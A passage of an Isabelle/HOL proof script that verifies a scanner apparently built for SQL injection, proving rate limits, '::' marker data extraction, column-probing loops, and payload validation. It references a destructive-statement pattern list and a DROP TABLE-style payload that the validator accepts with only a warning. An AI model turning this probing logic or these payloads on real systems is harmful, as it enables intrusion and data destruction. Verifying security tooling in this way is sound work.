  then have "isUrlTested parse now v st' = (True, st')"
    by (rule isUrlTested_known)
  then show ?thesis by (simp add: submitUrl_def)
qed

lemma length_set_add: "length (set_add x xs) \<le> Suc (length xs)"
  by (simp add: set_add_def)

lemma isUrlTested_bounded:
  assumes "paths_bounded st" and "0 \<le> maxPathsPerDomain (config st)"
  shows "paths_bounded (snd (isUrlTested parse now url st))"
  using assms
  by (auto simp add: isUrlTested_def Let_def paths_bounded_def split: option.splits)

lemma isUrlTested_room:
  assumes "isUrlTested parse now url st = (False, st')"
    and "parse url = Some u" and "hostname u \<noteq> []"
    and "1 \<le> maxPathsPerDomain (config st)"
  shows "case seenDomains st' (hostname u) of
           None \<Rightarrow> True
         | Some ps \<Rightarrow> int (length ps) < maxPathsPerDomain (config st)"
  using assms
  by (auto simp add: isUrlTested_def Let_def getDomain_def extractDomain_def
      split: option.splits if_splits)

lemma markUrlAsTested_bounded:
  assumes "paths_bounded st" and "1 \<le> maxPathsPerDomain (config st)"
    and "\<And>u. parse url = Some u \<Longrightarrow> hostname u \<noteq> [] \<Longrightarrow>
           (case seenDomains st (hostname u) of
              None \<Rightarrow> True
            | Some ps \<Rightarrow> int (length ps) < maxPathsPerDomain (config st))"
  shows "paths_bounded (markUrlAsTested parse now url st)"
proof (cases "parse url")
  case None
  then show ?thesis using assms(1)
    by (simp add: markUrlAsTested_def Let_def getDomain_def extractDomain_def paths_bounded_def)
next
  case (Some u)
  show ?thesis
  proof (cases "hostname u = []")
    case True
    then show ?thesis using assms(1) Some
      by (simp add: markUrlAsTested_def Let_def getDomain_def extractDomain_def paths_bounded_def)
  next
    case False
    have room: "case seenDomains st (hostname u) of
              None \<Rightarrow> True
            | Some ps \<Rightarrow> int (length ps) < maxPathsPerDomain (config st)"
      using assms(3)[OF Some False] .
    have len: "\<And>ps. length (set_add (pathname u) ps) \<le> Suc (length ps)"
      by (rule length_set_add)
    show ?thesis
      unfolding paths_bounded_def
    proof (intro allI impI)
      fix d paths
      assume a: "seenDomains (markUrlAsTested parse now url st) d = Some paths"
      show "int (length paths) \<le> maxPathsPerDomain (config (markUrlAsTested parse now url st))"
      proof (cases "d = hostname u")
        case True
        show ?thesis
        proof (cases "seenDomains st (hostname u)")
          case None
          then have "paths = set_add (pathname u) []"
            using a Some False True
            by (simp add: markUrlAsTested_def Let_def getDomain_def extractDomain_def)
          then show ?thesis using assms(2) by (simp add: set_add_def markUrlAsTested_config)
        next
          case (Some ps)
          then have "paths = set_add (pathname u) ps"
            using a \<open>parse url = Some u\<close> False True
            by (simp add: markUrlAsTested_def Let_def getDomain_def extractDomain_def)
          moreover have "int (length ps) < maxPathsPerDomain (config st)"
            using room Some by simp
          ultimately show ?thesis using len[of ps] by (simp add: markUrlAsTested_config)
        qed
      next
        case neq: False
        then have "seenDomains st d = Some paths"
          using a Some False
          by (simp add: markUrlAsTested_def Let_def getDomain_def extractDomain_def)
        then show ?thesis using assms(1) by (simp add: paths_bounded_def markUrlAsTested_config)
      qed
    qed
  qed
qed

lemma submitUrl_config: "config (snd (submitUrl parse now url st)) = config st"
proof -
  obtain tested st' where r: "isUrlTested parse now url st = (tested, st')"
    by (cases "isUrlTested parse now url st")
  then have "config st' = config st"
    using isUrlTested_config[of parse now url st] by simp
  then show ?thesis using r by (simp add: submitUrl_def markUrlAsTested_config)
qed

lemma submitUrl_bounded:
  assumes "paths_bounded st" and "1 \<le> maxPathsPerDomain (config st)"
  shows "paths_bounded (snd (submitUrl parse now url st))"
proof -
  obtain tested st' where r: "isUrlTested parse now url st = (tested, st')"
    by (cases "isUrlTested parse now url st")
  have b: "paths_bounded st'" and c: "config st' = config st"
    using isUrlTested_bounded[OF assms(1), of parse now url] assms(2) r
      isUrlTested_config[of parse now url st] by simp_all
  show ?thesis
  proof (cases "validateUrl parse url \<and> \<not> tested")
    case False
    then show ?thesis using r b by (auto simp add: submitUrl_def)
  next
    case True
    then have r': "isUrlTested parse now url st = (False, st')" using r by simp
    have "paths_bounded (markUrlAsTested parse now url st')"
    proof (rule markUrlAsTested_bounded)
      show "paths_bounded st'" by (rule b)
      show "1 \<le> maxPathsPerDomain (config st')" using assms(2) c by simp
      fix u assume "parse url = Some u" "hostname u \<noteq> []"
      then show "case seenDomains st' (hostname u) of
              None \<Rightarrow> True
            | Some ps \<Rightarrow> int (length ps) < maxPathsPerDomain (config st')"
        using isUrlTested_room[OF r' _ _ assms(2)] c by (simp split: option.splits)
    qed
    then show ?thesis using True r by (simp add: submitUrl_def)
  qed
qed

lemma gate_run_bounded:
  assumes "list_all gate_op ops" and "paths_bounded st" and "1 \<le> maxPathsPerDomain (config st)"
  shows "paths_bounded (store_run parse st ops)"
  using assms unfolding store_run_def
proof (induction ops arbitrary: st)
  case Nil
  then show ?case by simp
next
  case (Cons x ops)
  have step: "paths_bounded (store_step parse st x) \<and> config (store_step parse st x) = config st"
  proof (cases x)
    case (IsUrlTested url now)
    then show ?thesis using Cons.prems isUrlTested_bounded[of st parse now url]
      by (simp add: isUrlTested_config)
  next
    case (SubmitUrl url now)
    then show ?thesis using Cons.prems submitUrl_bounded[of st parse now url]
      by (simp add: submitUrl_config)
  qed (use Cons.prems in simp_all)
  then show ?case using Cons.prems Cons.IH[of "store_step parse st x"] by simp
qed

lemma newURLStore_bounded: "paths_bounded (newURLStore cfg)"
  by (simp add: paths_bounded_def newURLStore_def)

lemma norm_Some: "parse url = Some u \<Longrightarrow> normalizeUrl parse url = origin u @ pathname u"
  by (simp add: normalizeUrl_def Let_def)

lemma isUrlTested_limited:
  assumes "normalizeUrl parse url \<notin> set (testedUrls st)"
    and "parse url = Some u" and "hostname u = d" and "d \<noteq> []"
    and "seenDomains st d = Some paths"
    and "maxPathsPerDomain (config st) \<le> int (length paths)"
    and "now - (case lastTestedTime st d of Some t \<Rightarrow> t | None \<Rightarrow> 0) < cooldownPeriod (config st)"
  shows "isUrlTested parse now url st = (True, st)"
  using assms
  by (simp add: isUrlTested_def Let_def getDomain_def extractDomain_def)

lemma isUrlTested_reset:
  assumes "normalizeUrl parse url \<notin> set (testedUrls st)"
    and "parse url = Some u" and "hostname u = d" and "d \<noteq> []"
    and "seenDomains st d = Some paths"
    and "maxPathsPerDomain (config st) \<le> int (length paths)"
    and "cooldownPeriod (config st) \<le> now - (case lastTestedTime st d of Some t \<Rightarrow> t | None \<Rightarrow> 0)"
  shows "isUrlTested parse now url st =
           (False, st\<lparr>seenDomains := (seenDomains st)(d \<mapsto> []),
                      lastTestedTime := (lastTestedTime st)(d \<mapsto> now)\<rparr>)"
  using assms
  by (simp add: isUrlTested_def Let_def getDomain_def extractDomain_def)

lemma isUrlTested_room_left:
  assumes "normalizeUrl parse url \<notin> set (testedUrls st)"
    and "parse url = Some u" and "hostname u = d"
    and "seenDomains st d = None \<or> (\<exists>paths. seenDomains st d = Some paths \<and> int (length paths) < maxPathsPerDomain (config st))"
  shows "isUrlTested parse now url st = (False, st)"
  using assms
  by (auto simp add: isUrlTested_def Let_def getDomain_def extractDomain_def)

lemma markUrlAsTested_domain:
  assumes "parse url = Some u" and "hostname u = d" and "d \<noteq> []"
  shows "markUrlAsTested parse now url st =
           st\<lparr>testedUrls := set_add (normalizeUrl parse url) (testedUrls st),
              seenDomains := (seenDomains st)(d \<mapsto> set_add (pathname u)
                                (case seenDomains st d of Some ps \<Rightarrow> ps | None \<Rightarrow> [])),
              lastTestedTime := (lastTestedTime st)(d \<mapsto> now)\<rparr>"
  using assms
  by (simp add: markUrlAsTested_def Let_def getDomain_def extractDomain_def)

lemma store_run_gate_config:
  "list_all gate_op ops \<Longrightarrow> config (store_run parse st ops) = config st"
  unfolding store_run_def
proof (induction ops arbitrary: st)
  case Nil
  then show ?case by simp
next
  case (Cons x ops)
  then show ?case
    by (cases x) (simp_all add: isUrlTested_config submitUrl_config)
qed

text \<open>
  Claim C3. With \<open>maxPathsPerDomain = 2\<close> and \<open>cooldownPeriod = 5000\<close>, on a new store:
  two URLs of one domain with distinct paths are admitted and committed; a third URL of
  the domain, submitted less than 5000 ms after the second commit, is rejected, and the
  domain's paths are the first two; at a time 5000 ms or more after the second commit the
  admission check of a new URL of the domain answers false and leaves the domain's path
  set empty, and the submission is admitted. After every sequence of admission checks and
  submissions on the new store, every domain's path set has at most 2 elements.
\<close>

theorem rate_limit:
  assumes cfg: "cfg = \<lparr>maxPathsPerDomain = 2, cooldownPeriod = 5000\<rparr>"
    and p1: "parse u1 = Some o1" and p2: "parse u2 = Some o2"
    and p3: "parse u3 = Some o3" and p4: "parse u4 = Some o4"
    and d: "d \<noteq> []" and h1: "hostname o1 = d" and h2: "hostname o2 = d"
    and h3: "hostname o3 = d" and h4: "hostname o4 = d"
    and paths: "pathname o1 \<noteq> pathname o2"
    and urls: "normalizeUrl parse u2 \<noteq> normalizeUrl parse u1"
      "normalizeUrl parse u4 \<noteq> normalizeUrl parse u1"
      "normalizeUrl parse u4 \<noteq> normalizeUrl parse u2"
    and times: "tc - tb < 5000" "5000 \<le> td - tb"
    and r1: "submitUrl parse ta u1 (newURLStore cfg) = (a1, s1)"
    and r2: "submitUrl parse tb u2 s1 = (a2, s2)"
    and r3: "submitUrl parse tc u3 s2 = (a3, s3)"
    and r4: "isUrlTested parse td u4 s3 = (tested4, s4)"
    and r5: "submitUrl parse td u4 s3 = (a4, s5)"
  shows "a1 \<and> a2 \<and> \<not> a3 \<and> seenDomains s3 d = Some [pathname o1, pathname o2]
       \<and> \<not> tested4 \<and> seenDomains s4 d = Some [] \<and> a4
       \<and> (\<forall>ops dom ps. list_all gate_op ops \<longrightarrow>
             seenDomains (store_run parse (newURLStore cfg) ops) dom = Some ps \<longrightarrow> length ps \<le> 2)"
proof -
  let ?n1 = "normalizeUrl parse u1" and ?n2 = "normalizeUrl parse u2"
  have v: "validateUrl parse u1" "validateUrl parse u2" "validateUrl parse u4"
    using p1 p2 p4 by (simp_all add: validateUrl_def)
  have "isUrlTested parse ta u1 (newURLStore cfg) = (False, newURLStore cfg)"
    using isUrlTested_room_left[where parse=parse and url=u1 and st="newURLStore cfg" and now=ta, OF _ p1 h1]
    by (simp add: newURLStore_def)
  then have s1: "a1 \<and> s1 = \<lparr>config = cfg, testedUrls = [?n1], vulnerableUrls = [],
      seenDomains = [d \<mapsto> [pathname o1]], lastTestedTime = [d \<mapsto> ta]\<rparr>"
    using r1 v(1) by (auto simp add: submitUrl_def markUrlAsTested_domain[where parse=parse, OF p1 h1 d]
        newURLStore_def set_add_def)
  have "isUrlTested parse tb u2 s1 = (False, s1)"
    using isUrlTested_room_left[where parse=parse and url=u2 and st=s1 and now=tb, OF _ p2 h2] s1 urls cfg
    by simp
  then have s2: "a2 \<and> s2 = \<lparr>config = cfg, testedUrls = [?n1, ?n2], vulnerableUrls = [],
      seenDomains = [d \<mapsto> [pathname o1, pathname o2]], lastTestedTime = [d \<mapsto> tb]\<rparr>"
    using r2 v(2) s1 paths urls by (auto simp add: submitUrl_def markUrlAsTested_domain[where parse=parse, OF p2 h2 d]
        set_add_def)
  have "isUrlTested parse tc u3 s2 = (True, s2)"
  proof (cases "normalizeUrl parse u3 \<in> set (testedUrls s2)")
    case True
    then show ?thesis by (rule isUrlTested_known)
  next
    case False
    show ?thesis
      using isUrlTested_limited[where parse=parse and url=u3 and st=s2 and now=tc
          and paths="[pathname o1, pathname o2]", OF False p3 h3 d] s2 cfg times
      by simp
  qed
  then have s3: "\<not> a3 \<and> s3 = s2"
    using r3 by (simp add: submitUrl_def)
  have n4: "normalizeUrl parse u4 \<notin> set (testedUrls s3)"
    using s3 s2 urls by simp
  have "isUrlTested parse td u4 s3 =
           (False, s3\<lparr>seenDomains := (seenDomains s3)(d \<mapsto> []),
                      lastTestedTime := (lastTestedTime s3)(d \<mapsto> td)\<rparr>)"
    using isUrlTested_reset[where parse=parse and url=u4 and st=s3 and now=td
        and paths="[pathname o1, pathname o2]", OF n4 p4 h4 d] s3 s2 cfg times
    by simp
  then have s4: "\<not> tested4 \<and> seenDomains s4 d = Some []"
    and s5: "a4"
    using r4 r5 v(3) by (auto simp add: submitUrl_def)
  have inv: "\<forall>ops dom ps. list_all gate_op ops \<longrightarrow>
             seenDomains (store_run parse (newURLStore cfg) ops) dom = Some ps \<longrightarrow> length ps \<le> 2"
  proof (intro allI impI)
    fix ops dom ps
    assume g: "list_all gate_op ops"
      and s: "seenDomains (store_run parse (newURLStore cfg) ops) dom = Some ps"
    have "paths_bounded (store_run parse (newURLStore cfg) ops)"
      by (rule gate_run_bounded[OF g newURLStore_bounded]) (simp add: newURLStore_def cfg)
    moreover have "config (store_run parse (newURLStore cfg) ops) = cfg"
      using store_run_gate_config[OF g] by (simp add: newURLStore_def)
    ultimately show "length ps \<le> 2" using s cfg by (auto simp add: paths_bounded_def)
  qed
  show ?thesis using s1 s2 s3 s4 s5 inv by simp
qed

lemma str_includes_dropWhile:
  "str_includes (dropWhile P s) pat \<Longrightarrow> str_includes s pat"
  by (induction s) (auto split: if_splits)

lemma startsWith_includes: "startsWith s pat \<Longrightarrow> str_includes s pat"
  by (cases s) (auto simp add: startsWith_def)

lemma match_marker_includes:
  "match_marker_at s = Some r \<Longrightarrow> str_includes s ''::''"
  by (auto simp add: match_marker_at_def Let_def split: if_splits
      intro: str_includes_dropWhile startsWith_includes)

lemma no_marker_no_data:
  "\<not> str_includes body ''::'' \<Longrightarrow> extractDataFromResponse body = None"
proof (induction body)
  case Nil
  then show ?case by simp
next
  case (Cons c cs)
  have "match_marker_at (c # cs) = None"
    using Cons.prems match_marker_includes[of "c # cs"] by (cases "match_marker_at (c # cs)") auto
  moreover have "\<not> str_includes cs ''::''" using Cons.prems by simp
  ultimately show ?case using Cons.IH by simp
qed

text \<open>
  Claim C7. \<open>extractDataFromResponse\<close> extracts \<open>admin\<close> from the body \<open>admin::\<close>, and
  gives \<open>null\<close> for every body in which \<open>::\<close> does not occur.
\<close>

theorem marker_extraction:
  "extractDataFromResponse ''admin::'' = Some ''admin''
   \<and> (\<forall>body. \<not> str_includes body ''::'' \<longrightarrow> extractDataFromResponse body = None)"
proof -
  have "extractDataFromResponse ''admin::'' = Some ''admin''"
    by (simp add: match_marker_at_def isMarkerChar_def startsWith_def)
  then show ?thesis using no_marker_no_data by blast
qed

theorem marker_extraction_witness:
  "\<not> str_includes ''<html>no rows</html>'' ''::''
   \<and> extractDataFromResponse ''<html>no rows</html>'' = None
   \<and> extractDataFromResponse ''admin::'' = Some ''admin''"
proof -
  have a: "\<not> str_includes ''<html>no rows</html>'' ''::''"
    by (simp add: startsWith_def)
  show ?thesis using a marker_extraction by blast
qed

lemma trim_empty_iff: "(trim s = []) = list_all isWhiteSpace s"
proof -
  let ?d = "dropWhile isWhiteSpace s"
  have "(trim s = []) = (\<forall>x\<in>set ?d. isWhiteSpace x)"
    by (simp add: trim_def dropWhile_eq_Nil_conv)
  also have "\<dots> = (?d = [])"
  proof
    assume a: "\<forall>x\<in>set ?d. isWhiteSpace x"
    show "?d = []"
    proof (rule ccontr)
      assume "?d \<noteq> []"
      then have "\<not> isWhiteSpace (hd ?d)" "hd ?d \<in> set ?d"
        by (simp_all add: hd_dropWhile)
      then show False using a by blast
    qed
  qed (auto dest: set_dropWhileD)
  also have "\<dots> = list_all isWhiteSpace s"
    by (simp add: dropWhile_eq_Nil_conv list_all_iff)
  finally show ?thesis .
qed

text \<open>
  Claim C8. \<open>validateItem(item, 'payload')\<close> answers false exactly when the item is not a
  string or is a string of white space only (the empty string included). A string that is
  not of that kind and matches a destructive-statement pattern is accepted, the warning
  is logged, and the catalog's filter keeps it.
\<close>

theorem validateItem_payload:
  "((snd (validateItem item ''payload'') = False)
      = ((\<forall>s. item \<noteq> JString s) \<or> (\<exists>s. item = JString s \<and> list_all isWhiteSpace s)))
   \<and> (\<forall>s xs. \<not> list_all isWhiteSpace s
          \<and> list_ex (\<lambda>pattern. test_pattern pattern s) dangerousPatterns \<longrightarrow>
          snd (validateItem (JString s) ''payload'')
          \<and> (WARN, DangerousPayloadDetected s) \<in> set (fst (validateItem (JString s) ''payload''))
          \<and> (JString s \<in> set xs \<longrightarrow> JString s \<in> set (validate_payloads xs)))"
proof -
  have a: "(snd (validateItem item ''payload'') = False)
      = ((\<forall>s. item \<noteq> JString s) \<or> (\<exists>s. item = JString s \<and> list_all isWhiteSpace s))"
    by (cases item) (simp_all add: validateItem_def trim_empty_iff)
  have b: "snd (validateItem (JString s) ''payload'')
          \<and> (WARN, DangerousPayloadDetected s) \<in> set (fst (validateItem (JString s) ''payload''))
          \<and> (JString s \<in> set xs \<longrightarrow> JString s \<in> set (validate_payloads xs))"
    if "\<not> list_all isWhiteSpace s" "list_ex (\<lambda>pattern. test_pattern pattern s) dangerousPatterns"
    for s xs
    using that by (simp add: validateItem_def trim_empty_iff validate_payloads_def)
  show ?thesis using a b by blast
qed

lemma drop_table_dangerous:
  "list_ex (\<lambda>pattern. test_pattern pattern drop_table_payload) dangerousPatterns"
  by (simp add: drop_table_payload_def dangerousPatterns_def test_pattern_def toLowerCase_def
      lowerChar_def char_of_def bit_Suc_0_iff match_pattern_at_def startsWith_def isWhiteSpace_def)

theorem validateItem_payload_witness:
  "\<not> list_all isWhiteSpace drop_table_payload
   \<and> list_ex (\<lambda>pattern. test_pattern pattern drop_table_payload) dangerousPatterns
   \<and> snd (validateItem (JString drop_table_payload) ''payload'')
   \<and> (WARN, DangerousPayloadDetected drop_table_payload)
        \<in> set (fst (validateItem (JString drop_table_payload) ''payload''))
   \<and> validate_payloads [JString ''  '', JNull, JString drop_table_payload]
        = [JString drop_table_payload]"
proof -
  have ws: "\<not> list_all isWhiteSpace drop_table_payload"
    by (simp add: drop_table_payload_def isWhiteSpace_def)
  have v: "snd (validateItem (JString drop_table_payload) ''payload'')
     \<and> (WARN, DangerousPayloadDetected drop_table_payload)
        \<in> set (fst (validateItem (JString drop_table_payload) ''payload''))"
    using validateItem_payload[of "JString drop_table_payload"] ws drop_table_dangerous by blast
  have n: "\<not> snd (validateItem (JString ''  '') ''payload'')" "\<not> snd (validateItem JNull ''payload'')"
    using validateItem_payload[of "JString ''  ''"] validateItem_payload[of JNull]
    by (auto simp add: isWhiteSpace_def)
  show ?thesis using ws drop_table_dangerous v n by (simp add: validate_payloads_def)
qed

text \<open>
  Claim C9, as amended. The admission check changes the store without any commit: when
  the normalized URL is not in the set of tested URLs, the domain is truthy and has a
  record with at least \<open>maxPathsPerDomain\<close> paths, and the cooldown has elapsed since the
  recorded time (0 without one), \<open>isUrlTested\<close> answers false and leaves the store with
  the domain's path set empty and its time set to now.
\<close>

theorem admission_check_resets:
  assumes "normalizeUrl parse url \<notin> set (testedUrls st)"
    and "parse url = Some u" and "hostname u = d" and "d \<noteq> []"
    and "seenDomains st d = Some paths"
    and "maxPathsPerDomain (config st) \<le> int (length paths)"
    and "cooldownPeriod (config st) \<le> now - (case lastTestedTime st d of Some t \<Rightarrow> t | None \<Rightarrow> 0)"
  shows "isUrlTested parse now url st =
           (False, st\<lparr>seenDomains := (seenDomains st)(d \<mapsto> []),
                      lastTestedTime := (lastTestedTime st)(d \<mapsto> now)\<rparr>)"
  using assms by (rule isUrlTested_reset)

lemma demo_store_reached:
  "markUrlAsTested demo_parse 0 ''http://a.com/p1?id=1''
     (newURLStore \<lparr>maxPathsPerDomain = 1, cooldownPeriod = 5000\<rparr>) = demo_store"
  by (simp add: markUrlAsTested_def newURLStore_def demo_store_def demo_parse_def
      normalizeUrl_def getDomain_def extractDomain_def Let_def set_add_def)

theorem admission_check_resets_witness:
  "normalizeUrl demo_parse ''http://a.com/p2?id=1'' \<notin> set (testedUrls demo_store)
   \<and> seenDomains demo_store ''a.com'' = Some [''/p1'']
   \<and> maxPathsPerDomain (config demo_store) \<le> 1
   \<and> cooldownPeriod (config demo_store) \<le> 6000 - 0
   \<and> isUrlTested demo_parse 6000 ''http://a.com/p2?id=1'' demo_store =
       (False, demo_store\<lparr>seenDomains := (seenDomains demo_store)(''a.com'' \<mapsto> []),
                           lastTestedTime := (lastTestedTime demo_store)(''a.com'' \<mapsto> 6000)\<rparr>)"
proof -
  have p: "demo_parse ''http://a.com/p2?id=1'' =
      Some \<lparr>origin = ''http://a.com'', hostname = ''a.com'', pathname = ''/p2'', searchParams = [(''id'', ''1'')]\<rparr>"
    by (simp add: demo_parse_def)
  have n: "normalizeUrl demo_parse ''http://a.com/p2?id=1'' \<notin> set (testedUrls demo_store)"
    by (simp add: norm_Some[where parse=demo_parse, OF p] demo_store_def)
  have s: "seenDomains demo_store ''a.com'' = Some [''/p1'']"
    by (simp add: demo_store_def)
  show ?thesis
    using admission_check_resets[where parse=demo_parse and st=demo_store and now=6000, OF n p _ _ s] n
    by (simp add: demo_store_def)
qed

text \<open>
  The claim without the first condition fails: in \<open>demo_store\<close> the domain has reached
  the limit of 1 path and the cooldown of 5000 ms has elapsed at time 6000, but the
  queried URL is already in the set of tested URLs, so the check answers true and the
  store stays as it is.
\<close>

theorem admission_check_tested_url_counterexample:
  "seenDomains demo_store ''a.com'' = Some [''/p1'']
   \<and> maxPathsPerDomain (config demo_store) \<le> int (length [''/p1''])
   \<and> cooldownPeriod (config demo_store) \<le> 6000 - 0
   \<and> lastTestedTime demo_store ''a.com'' = Some 0
   \<and> isUrlTested demo_parse 6000 ''http://a.com/p1?id=1'' demo_store = (True, demo_store)"
  by (simp add: isUrlTested_def demo_store_def demo_parse_def normalizeUrl_def Let_def)

lemma demo_parse_simps:
  "demo_parse ''http://a.com/p1?id=1'' =
     Some \<lparr>origin = ''http://a.com'', hostname = ''a.com'', pathname = ''/p1'', searchParams = [(''id'', ''1'')]\<rparr>"
  "demo_parse ''http://a.com/p2?id=1'' =
     Some \<lparr>origin = ''http://a.com'', hostname = ''a.com'', pathname = ''/p2'', searchParams = [(''id'', ''1'')]\<rparr>"
  "demo_parse ''http://a.com/p3?id=1'' =
     Some \<lparr>origin = ''http://a.com'', hostname = ''a.com'', pathname = ''/p3'', searchParams = [(''id'', ''1'')]\<rparr>"
  "demo_parse ''http://a.com/p4?id=1'' =
     Some \<lparr>origin = ''http://a.com'', hostname = ''a.com'', pathname = ''/p4'', searchParams = [(''id'', ''1'')]\<rparr>"
  "demo_parse ''http://a.com/p1?id=1&utm_source=x'' =
     Some \<lparr>origin = ''http://a.com'', hostname = ''a.com'', pathname = ''/p1'',
           searchParams = [(''id'', ''1''), (''utm_source'', ''x'')]\<rparr>"
  by (simp_all add: demo_parse_def)

lemma demo_normalize:
  "normalizeUrl demo_parse ''http://a.com/p1?id=1'' = ''http://a.com/p1''"
  "normalizeUrl demo_parse ''http://a.com/p2?id=1'' = ''http://a.com/p2''"
  "normalizeUrl demo_parse ''http://a.com/p3?id=1'' = ''http://a.com/p3''"
  "normalizeUrl demo_parse ''http://a.com/p4?id=1'' = ''http://a.com/p4''"
  "normalizeUrl demo_parse ''http://a.com/p1?id=1&utm_source=x'' = ''http://a.com/p1''"
  by (simp_all add: normalizeUrl_def demo_parse_simps Let_def)

theorem tested_once_witness:
  "normalizeUrl demo_parse ''http://a.com/p1?id=1&utm_source=x''
     = normalizeUrl demo_parse ''http://a.com/p1?id=1''
   \<and> fst (isUrlTested demo_parse 400002 ''http://a.com/p1?id=1&utm_source=x''
        (store_run demo_parse
           (markUrlAsTested demo_parse 0 ''http://a.com/p1?id=1'' (newURLStore DEFAULT_CONFIG))
           [CleanupOldEntries 400000, IsUrlTested ''http://a.com/p2?id=1'' 400001]))
   \<and> \<not> fst (submitUrl demo_parse 400002 ''http://a.com/p1?id=1&utm_source=x''
        (store_run demo_parse
           (markUrlAsTested demo_parse 0 ''http://a.com/p1?id=1'' (newURLStore DEFAULT_CONFIG))
           [CleanupOldEntries 400000, IsUrlTested ''http://a.com/p2?id=1'' 400001]))"
proof -
  have n: "normalizeUrl demo_parse ''http://a.com/p1?id=1&utm_source=x''
     = normalizeUrl demo_parse ''http://a.com/p1?id=1''"
    by (simp add: demo_normalize)
  show ?thesis
    using n tested_once[where parse=demo_parse, OF n refl, of 400002 0 "newURLStore DEFAULT_CONFIG"
        "[CleanupOldEntries 400000, IsUrlTested ''http://a.com/p2?id=1'' 400001]"]
    by simp
qed

theorem rate_limit_witness:
  "(2000::int) - 1000 < 5000 \<and> (5000::int) \<le> 7000 - 1000
   \<and> fst (submitUrl demo_parse 0 ''http://a.com/p1?id=1'' (newURLStore demo_config))
   \<and> fst (submitUrl demo_parse 1000 ''http://a.com/p2?id=1'' demo_s1)
   \<and> \<not> fst (submitUrl demo_parse 2000 ''http://a.com/p3?id=1'' demo_s2)
   \<and> seenDomains demo_s3 ''a.com'' = Some [''/p1'', ''/p2'']
   \<and> \<not> fst (isUrlTested demo_parse 7000 ''http://a.com/p4?id=1'' demo_s3)
   \<and> seenDomains (snd (isUrlTested demo_parse 7000 ''http://a.com/p4?id=1'' demo_s3)) ''a.com'' = Some []
   \<and> fst (submitUrl demo_parse 7000 ''http://a.com/p4?id=1'' demo_s3)"
proof -
  have ne: "normalizeUrl demo_parse ''http://a.com/p2?id=1'' \<noteq> normalizeUrl demo_parse ''http://a.com/p1?id=1''"
    "normalizeUrl demo_parse ''http://a.com/p4?id=1'' \<noteq> normalizeUrl demo_parse ''http://a.com/p1?id=1''"
    "normalizeUrl demo_parse ''http://a.com/p4?id=1'' \<noteq> normalizeUrl demo_parse ''http://a.com/p2?id=1''"
    by (simp_all add: demo_normalize)
  have t: "(2000::int) - 1000 < 5000" "(5000::int) \<le> 7000 - 1000" by simp_all
  have d: "''a.com'' \<noteq> []" by simp
  show ?thesis
    using rate_limit[where parse=demo_parse and cfg=demo_config and ta=0 and tb=1000
          and tc=2000 and td=7000 and d="''a.com''",
        OF demo_config_def demo_parse_simps(1) demo_parse_simps(2) demo_parse_simps(3)
           demo_parse_simps(4) d _ _ _ _ _ ne t
           surjective_pairing surjective_pairing surjective_pairing surjective_pairing
           surjective_pairing] t
    by (simp add: demo_s1_def[symmetric] demo_s2_def[symmetric] demo_s3_def[symmetric])
qed

section \<open>Facts about the probe loops\<close>

lemma sanitizePayload_string:
  "sanitizePayload (JString s) m = (if int (length s) > m then Inl PayloadTooLong else Inr (sanitized s))"
  by (simp add: sanitizePayload_def sanitized_def)

lemma probe_stops_Nil: "\<not> probe_stops P get []"
  by (simp add: probe_stops_def)

lemma probe_stops_Cons:
  "probe_stops P get (r # rs) =
     (case get r of
        None \<Rightarrow> False
      | Some b \<Rightarrow> P b \<or> probe_stops P get rs)"
proof (cases "get r")
  case None
  have "\<not> probe_stops P get (r # rs)"
    unfolding probe_stops_def
  proof (intro notI, elim exE conjE)
    fix k b
    assume "k < length (r # rs)" and a: "\<forall>j<k. \<exists>b. get ((r # rs) ! j) = Some b \<and> \<not> P b"
      and b: "get ((r # rs) ! k) = Some b"
    show False
    proof (cases k)
      case 0
      then show ?thesis using b None by simp
    next
      case (Suc k')
      then have "\<exists>b. get ((r # rs) ! 0) = Some b \<and> \<not> P b"
        using a by blast
      then show ?thesis using None by simp
    qed
  qed
  then show ?thesis using None by simp
next
  case (Some body)
  show ?thesis
  proof (cases "\<not> P body")
    case False
    have "probe_stops P get (r # rs)"
      unfolding probe_stops_def using Some False by (intro exI[of _ 0]) simp
    then show ?thesis using Some False by simp
  next
    case True
    have "probe_stops P get (r # rs) = probe_stops P get rs"
    proof
      assume "probe_stops P get (r # rs)"
      then obtain k b where k: "k < length (r # rs)"
        and a: "\<forall>j<k. \<exists>b. get ((r # rs) ! j) = Some b \<and> \<not> P b"
        and b: "get ((r # rs) ! k) = Some b" "P b"
        unfolding probe_stops_def by blast
      show "probe_stops P get rs"
      proof (cases k)
        case 0
        then show ?thesis using b Some True by simp
      next
        case (Suc k')
        have "\<forall>j<k'. \<exists>b. get (rs ! j) = Some b \<and> \<not> P b"
        proof (intro allI impI)
          fix j assume "j < k'"
          then have "Suc j < k" using Suc by simp
          then show "\<exists>b. get (rs ! j) = Some b \<and> \<not> P b"
            using a[rule_format, of "Suc j"] by simp
        qed
        then show ?thesis
          unfolding probe_stops_def using k b Suc by (intro exI[of _ k']) auto
      qed
    next
      assume "probe_stops P get rs"
      then obtain k b where k: "k < length rs"
        and a: "\<forall>j<k. \<exists>b. get (rs ! j) = Some b \<and> \<not> P b"
        and b: "get (rs ! k) = Some b" "P b"
        unfolding probe_stops_def by blast
      have "\<forall>j<Suc k. \<exists>b. get ((r # rs) ! j) = Some b \<and> \<not> P b"
      proof (intro allI impI)
        fix j assume "j < Suc k"
        then show "\<exists>b. get ((r # rs) ! j) = Some b \<and> \<not> P b"
          using a Some True by (cases j) auto
      qed
      then show "probe_stops P get (r # rs)"
        unfolding probe_stops_def using k b by (intro exI[of _ "Suc k"]) auto
    qed
    then show ?thesis using Some True by simp
  qed
qed

lemma column_requests_Returned:
  "(snd (column_requests get reqs) = Returned) = probe_clean get reqs"
proof (induction reqs)
  case Nil
  then show ?case by (simp add: probe_clean_def probe_stops_Nil)
next
  case (Cons r rs)
  then show ?case
    by (auto simp add: probe_clean_def probe_stops_Cons no_error_def split: option.splits prod.splits)
qed

lemma column_loop_result:
  assumes "parseURL env url = Some u"
    and "\<forall>p\<in>set ps. int (length p) \<le> maxPayloadLength scanConfig"
  shows "\<exists>n. snd (column_loop env scanConfig url i ps) = Inr n
           \<and> (if \<exists>p\<in>set ps. accepted env u p
               then \<exists>k<length ps. n = i + k + 1 \<and> accepted env u (ps ! k)
                      \<and> (\<forall>j<k. \<not> accepted env u (ps ! j))
               else n = 0)"
  using assms(2)
proof (induction ps arbitrary: i)
  case Nil
  then show ?case by simp
next
  case (Cons p rest)
  have san: "sanitizePayload (JString p) (maxPayloadLength scanConfig) = Inr (sanitized p)"
    using Cons.prems by (simp add: sanitizePayload_string)
